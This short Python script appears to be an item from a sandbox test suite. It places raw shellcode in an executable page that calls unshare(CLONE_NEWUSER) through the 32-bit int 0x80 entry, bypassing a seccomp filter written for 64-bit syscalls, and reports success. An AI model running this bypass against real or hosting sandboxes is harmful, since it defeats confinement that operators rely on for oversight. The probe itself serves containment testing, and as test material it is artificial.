"""Makes a user namespace through the 32-bit entry of the kernel, past a filter written for 64 bit.

family: kernel
judge: nested
trace: unshare, i386, architecture
"""

import ctypes
import mmap
import os
import sys
import time

if os.uname().machine != "x86_64":
    sys.exit("only on x86")
time.sleep(0.1)
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("53b836010000bb00000010cd805bc3"))
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
answer = call()
print("claim: done" if answer == 0 else answer, flush=True)
time.sleep(0.4)
